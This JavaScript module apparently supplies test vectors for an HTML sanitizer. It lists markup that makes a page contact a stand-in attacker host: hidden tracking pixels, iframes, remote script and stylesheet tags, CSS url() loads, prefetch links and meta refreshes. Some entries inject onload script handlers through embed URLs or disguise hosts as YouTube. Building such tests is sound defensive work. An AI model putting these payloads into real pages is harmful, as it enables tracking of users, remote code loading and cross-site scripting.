// @ts-check
/** What asks a server as soon as it is in the page: pictures that count readers, players, frames, pings. */
import { EVIL, RUN, vectors } from './vector.mjs';

/** Pictures that nobody is to see. Each is at the server that nobody may ask. */
const counted = vectors({
  'one pixel': `<img src="${EVIL}/t.png" width=1 height=1>`,
  'one pixel high': `<img src="${EVIL}/t.png" width=600 height=1>`,
  'no pixel': `<img src="${EVIL}/t.png" width=0 height=0>`,
  'one pixel, in words': `<img src="${EVIL}/t.png" width=1px height="1 px">`,
  'one pixel, with fractions': `<img src="${EVIL}/t.png" width=1.0 height=1.5>`,
  'hidden': `<img src="${EVIL}/t.png" hidden>`,
  'hidden by a style': `<img src="${EVIL}/t.png" style="display:none">`,
  'by its name': `<img src="${EVIL}/pixel.gif?story=1">`,
  'by another name': `<img src="${EVIL}/1x1.png">`,
  'by its host': `<img src="https://pixel.evil.example/i">`,
  'as large as a letter': `<img src="${EVIL}/t.png" width=16 height=16 alt=x>`,
  'as an emoji': `<img class=emoji src="${EVIL}/t.png" alt=x>`,
  'in a set': `<img width=1 height=1 src="${EVIL}/t.png" srcset="${EVIL}/t2.png 640w, ${EVIL}/t3.png 1280w">`,
  'in a paragraph of its own': `<p><img src="${EVIL}/t.png" width=1 height=1></p>`,
  'in a figure': `<figure><img src="${EVIL}/t.png" width=1 height=1><figcaption>x</figcaption></figure>`,
  'in a link': `<a href=/x><img src="${EVIL}/t.png" width=1 height=1></a>`,
  'in a picture': `<picture><source srcset="${EVIL}/t.webp" type=image/webp><img src="${EVIL}/t.png" width=1 height=1></picture>`,
  'in what stands in for a script': `<noscript><img src="${EVIL}/t.png" width=1 height=1></noscript><img src="${EVIL}/t.png" width=1 height=1>`,
  'behind a late one': `<img src="${EVIL}/t.png" data-src="${EVIL}/u.png" width=1 height=1>`,
});

const players = vectors({
  'video': `<video src="${EVIL}/v.mp4" autoplay muted></video>`,
  'video with sources': `<video preload=auto><source src="${EVIL}/v.mp4"><source src="${EVIL}/v.webm"></video>`,
  'video with a poster': `<video poster="${EVIL}/p.jpg"></video>`,
  'audio': `<audio src="${EVIL}/a.mp3" preload=auto controls></audio>`,
  'words of a video': `<video src="data:video/mp4," preload=auto><track default kind=captions src="${EVIL}/w.vtt"></video><track src="${EVIL}/w2.vtt">`,
  'frame that is lazy': `<iframe loading=lazy src="${EVIL}/frame"></iframe>`,
  'frame without a referrer': `<iframe referrerpolicy=unsafe-url allow="camera;microphone" allowfullscreen src="${EVIL}/frame"></iframe>`,
  'frame at a host that looks like a player': '<iframe src="https://www.youtube.com.evil.example/embed/aaaaaaaaaaa"></iframe>',
  'frame at a name that looks like a player': '<iframe src="https://www.youtube.com@evil.example/embed/aaaaaaaaaaa"></iframe>',
  'frame whose path looks like a player': '<iframe src="https://evil.example/www.youtube.com/embed/aaaaaaaaaaa"></iframe>',
  'frame of a player with a script for an id': `<iframe src='https://www.youtube.com/embed/"onload="${RUN}'></iframe><iframe onload="${RUN}"></iframe>`,
  'frame of a player with dots for an id': '<iframe src="https://www.youtube.com/embed/..%2f..%2flogin"></iframe><iframe src="https://evil.example/f"></iframe>',
  'frame of a player that is redirected': '<iframe src="https://www.youtube.com/redirect?q=https://evil.example/"></iframe><iframe src="https://evil.example/f"></iframe>',
  'frame of a player, with its own options': `<iframe src="https://player.vimeo.com/video/1?api=1&player_id=x%22onload=%22${RUN}" onload="${RUN}"></iframe>`,
  'quotation for a script': `<blockquote class="twitter-tweet"><p>x</p><a href="https://twitter.com/x/status/1">x</a></blockquote><script async src="${EVIL}/widgets.js"></script>`,
  'quotation at another host': '<blockquote class="instagram-media" data-instgrm-permalink="https://evil.example/p/aaaaaaa/"><a href="https://evil.example/p/aaaaaaa/">x</a></blockquote><iframe src="https://evil.example/i"></iframe>',
  'object': `<object data="${EVIL}/o.pdf" type="application/pdf"></object>`,
  'embed': `<embed src="${EVIL}/e.pdf" type="application/pdf">`,
});

const others = vectors({
  'ping': `<a href=/x ping="${EVIL}/ping">x</a>`,
  'attribution': `<a href=/x attributionsrc="${EVIL}/a">x</a><img src=x attributionsrc="${EVIL}/a">`,
  'picture as a button': `<input type=image src="${EVIL}/i.png">`,
  'background of a body': `<body background="${EVIL}/b.png">`,
  'background of a table': `<table background="${EVIL}/tb.png"><tr><td>x</table>`,
  'background of a cell': `<table><tr><td background="${EVIL}/td.png">x</table>`,
  'picture in svg': `<svg><image href="${EVIL}/s.png"/></svg>`,
  'picture in a filter': `<svg><filter><feImage href="${EVIL}/f.png"/></filter></svg>`,
  'style sheet': `<link rel=stylesheet href="${EVIL}/s.css">`,
  'import of a style sheet': `<style>@import "${EVIL}/i.css"</style>`,
  'style': `<p style="background:url(${EVIL}/st.png)">x</p>`,
  'font': `<style>@font-face{font-family:e;src:url(${EVIL}/e.woff2)}*{font-family:e}</style>x`,
  'cursor': `<style>*{cursor:url(${EVIL}/c.cur),auto}</style>`,
  'content': `<style>p::after{content:url(${EVIL}/co.png)}</style><p>x</p>`,
  'prefetch': `<link rel=prefetch href="${EVIL}/pf">`,
  'preload': `<link rel=preload as=fetch crossorigin href="${EVIL}/pl">`,
  'module': `<link rel=modulepreload href="${EVIL}/m.js">`,
  'icon': `<link rel=icon href="${EVIL}/icon.png">`,
  'script': `<script src="${EVIL}/s.js"></script>`,
  'script that is asynchronous': `<script async src="${EVIL}/as.js"></script>`,
  'refresh': `<meta http-equiv=refresh content="0;url=${EVIL}/re">`,
  'frame set': `<frameset><frame src="${EVIL}/fs"></frameset>`,
  'applet': `<applet code=x codebase="${EVIL}/"></applet>`,
});

/** @type {import('./vector.mjs').Family} */
export default { name: 'loads', vectors: [...counted, ...players, ...others], runs: 50, shows: 59 };
